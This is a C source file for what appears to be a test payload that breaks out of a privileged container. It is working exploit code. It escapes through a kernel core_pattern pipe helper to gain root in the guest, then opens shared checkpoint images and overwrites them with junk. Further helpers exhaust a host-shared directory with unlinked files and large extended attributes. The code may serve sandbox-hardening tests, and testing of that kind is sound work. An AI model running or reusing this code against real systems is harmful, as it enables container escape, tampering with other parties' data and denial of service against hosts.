/* The payload's commands that take the guest's root from a privileged
 * container: own-guest and its core_pattern helper hold-images (payload.c
 * lists what each does). */
#include "payload.h"
#include "payload-guest.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

/* The classic way out of a privileged container: a core_pattern pipe
 * helper runs as root in the initial namespaces (kernel/umh.c), here the
 * guest's, with the agent's root. */
int cmd_own_guest(int argc, char **argv)
{
	char pattern[128];
	snprintf(pattern, sizeof(pattern), "|/proc/%%P/root/bin/payload %s %%P",
		 argc > 2 ? argv[2] : "hold-images");
	int fd = open("/proc/sys/kernel/core_pattern", O_WRONLY | O_CLOEXEC);
	if (fd < 0 || write(fd, pattern, strlen(pattern)) < 0) {
		printf("own-guest: core_pattern: %s\n", strerrorname_np(errno));
		return 1;
	}
	close(fd);
	pid_t pid = fork();
	if (pid == 0) {
		struct rlimit rl = {RLIM_INFINITY, RLIM_INFINITY};
		setrlimit(RLIMIT_CORE, &rl);
		signal(SIGSEGV, SIG_DFL);
		kill(getpid(), SIGSEGV);
		_exit(1);
	}
	waitpid(pid, NULL, 0);
	for (int i = 0; i < 300; i++) {
		if (access("/hold.log", F_OK) == 0) {
			printf("own-guest: OK\n");
			fflush(stdout);
			return 0;
		}
		payload_sleep_ms(100);
	}
	printf("own-guest: no helper ran\n");
	return 1;
}

struct held_image {
	char path[300 + 256 + 2]; /* a directory of hold_scan and a name */
	int fd;
	off_t size;
};

static void hold_scan(const char *base, struct held_image *held, int *n, int max)
{
	DIR *d = opendir(base);
	struct dirent *de;
	while (d && (de = readdir(d))) {
		char dir[300];
		if (de->d_name[0] == '.')
			continue;
		snprintf(dir, sizeof(dir), "%s/%s", base, de->d_name);
		DIR *sub = opendir(dir);
		struct dirent *fe;
		while (sub && (fe = readdir(sub)) && *n < max) {
			char path[sizeof(held->path)];
			struct stat st;
			bool have = false;
			snprintf(path, sizeof(path), "%s/%s", dir, fe->d_name);
			if (lstat(path, &st) < 0 || !S_ISREG(st.st_mode))
				continue;
			for (int i = 0; i < *n; i++)
				have |= strcmp(held[i].path, path) == 0;
			int fd = have ? -1 : open(path, O_RDWR | O_CLOEXEC);
			if (fd < 0)
				continue;
			snprintf(held[*n].path, sizeof(held[*n].path), "%s", path);
			held[*n].fd = fd;
			held[(*n)++].size = st.st_size;
			printf("opened %s\n", path);
		}
		if (sub)
			closedir(sub);
	}
	if (d)
		closedir(d);
}

int cmd_hold_images(int argc, char **argv)
{
	char path[64];
	static struct held_image held[256];
	static char junk[1 << 20];
	int n = 0;
	snprintf(path, sizeof(path), "/proc/%s/root", argc > 2 ? argv[2] : "self");
	/* A usermode helper may start without stdout or stderr: these two
	 * stay out of the way of the dup2()s below. */
	int root = fcntl(open(path, O_PATH | O_DIRECTORY | O_CLOEXEC), F_DUPFD_CLOEXEC, 10);
	int log = root < 0 ? -1
			   : openat(root, "hold.log", O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC,
				    0644);
	if (log < 0 || (log = fcntl(log, F_DUPFD_CLOEXEC, 10)) < 0)
		return 1;
	dup2(log, 1);
	dup2(log, 2);
	setvbuf(stdout, NULL, _IOLBF, 0);
	/* The core dump is not read: its writer gets EPIPE and the crashed
	 * child is gone. */
	int null = open("/dev/null", O_RDONLY | O_CLOEXEC);
	dup2(null >= 0 ? null : 1, 0);
	printf("holding as uid %d\n", (int)getuid());
	const char *base = access("/run/cocoon/shared", F_OK) == 0
				   ? "/run/cocoon/shared/checkpoints"
				   : "/proc/1/root/run/cocoon/shared/checkpoints";
	for (long t = 0; faccessat(root, "go", F_OK, 0) < 0; t += 5) {
		if (t > 15 * 60 * 1000)
			return 1;
		if (t % 5000 == 0)
			printf("waiting for /go (%s), %d files held\n", strerrorname_np(errno), n);
		hold_scan(base, held, &n, 256);
		payload_sleep_ms(5);
	}
	printf("held %d files\n", n);
	memset(junk, 'E', sizeof(junk));
	unsigned long long total = 0;
	for (int round = 0; round < 3; round++) {
		for (int i = 0; i < n; i++) {
			if (pwrite(held[i].fd, "EVIL", 4, 0) == 4)
				total += 4;
			for (int k = 0; k < 4; k++) {
				ssize_t w = pwrite(held[i].fd, junk, sizeof(junk),
						   held[i].size + (off_t)(round * 4 + k) *
									  (off_t)sizeof(junk));
				if (w > 0)
					total += (unsigned long long)w;
			}
		}
		payload_sleep_ms(200);
	}
	printf("wrote %llu bytes\n", total);
	printf("done\n");
	return 0;
}

/* The container's /hold.log (as hold-images logs) on stdout and stderr,
 * /dev/null on stdin (the core dump is not read); false on failure. */
static bool log_to_hold(int argc, char **argv)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/%s/root", argc > 2 ? argv[2] : "self");
	int root = fcntl(open(path, O_PATH | O_DIRECTORY | O_CLOEXEC), F_DUPFD_CLOEXEC, 10);
	int log = root < 0 ? -1
			   : openat(root, "hold.log", O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC,
				    0644);
	if (log < 0 || (log = fcntl(log, F_DUPFD_CLOEXEC, 10)) < 0)
		return false;
	dup2(log, 1);
	dup2(log, 2);
	setvbuf(stdout, NULL, _IOLBF, 0);
	int null = open("/dev/null", O_RDONLY | O_CLOEXEC);
	dup2(null >= 0 ? null : 1, 0);
	return true;
}

/* The shared directory's FILE, as the guest's root sees it. */
static const char *shared_file(const char *file)
{
	static char path[128];
	snprintf(path, sizeof(path), "%s/%s",
		 access("/run/cocoon/shared", F_OK) == 0 ? "/run/cocoon/shared"
							 : "/proc/1/root/run/cocoon/shared",
		 file);
	return path;
}

/* Another helper: a file of the shared directory opened, removed, and
 * 64 MiB written into it (QEMU's 9p server keeps the guest's handle), 1 MiB
 * every 20 ms, logging "unlinked N MiB" every 4, then "refused: ERROR" or
 * "done". */
int cmd_fill_unlinked(int argc, char **argv)
{
	static char block[1 << 20];
	if (!log_to_hold(argc, argv))
		return 1;
	const char *file = shared_file("held");
	int fd = open(file, O_RDWR | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (fd < 0 || unlink(file) < 0) {
		printf("refused: %s: %s\n", file, strerrorname_np(errno));
		return 1;
	}
	memset(block, 'U', sizeof(block));
	for (int i = 0; i < 64; i++) {
		if (write(fd, block, sizeof(block)) != (ssize_t)sizeof(block)) {
			printf("refused: %s\n", strerrorname_np(errno));
			return 0;
		}
		if ((i + 1) % 4 == 0)
			printf("unlinked %d MiB\n", i + 1);
		payload_sleep_ms(20);
	}
	printf("done\n");
	return 0;
}

/* A core_pattern helper like hold-images: as root in the guest's own
 * namespaces, user.* extended attributes of 64 KiB each on one empty file
 * of the shared directory (9p's passthrough sets them on the host's inode),
 * up to 64 MiB, logging to /hold.log in the container's root: "xattrs N
 * KiB" every 4 MiB, then "refused: ERROR" or "done". */
int cmd_fill_xattrs(int argc, char **argv)
{
	char name[32];
	static char value[64 << 10];
	if (!log_to_hold(argc, argv))
		return 1;
	const char *file = shared_file("x");
	int fd = open(file, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
	if (fd < 0) {
		printf("refused: %s: %s\n", file, strerrorname_np(errno));
		return 1;
	}
	close(fd);
	memset(value, 'X', sizeof(value));
	for (int i = 0; i < 1024; i++) {
		snprintf(name, sizeof(name), "user.fill%d", i);
		if (setxattr(file, name, value, sizeof(value), 0) < 0) {
			printf("refused: %s\n", strerrorname_np(errno));
			return 0;
		}
		if ((i + 1) % 64 == 0)
			printf("xattrs %d KiB\n", (i + 1) * 64);
		payload_sleep_ms(4);
	}
	printf("done\n");
	return 0;
}
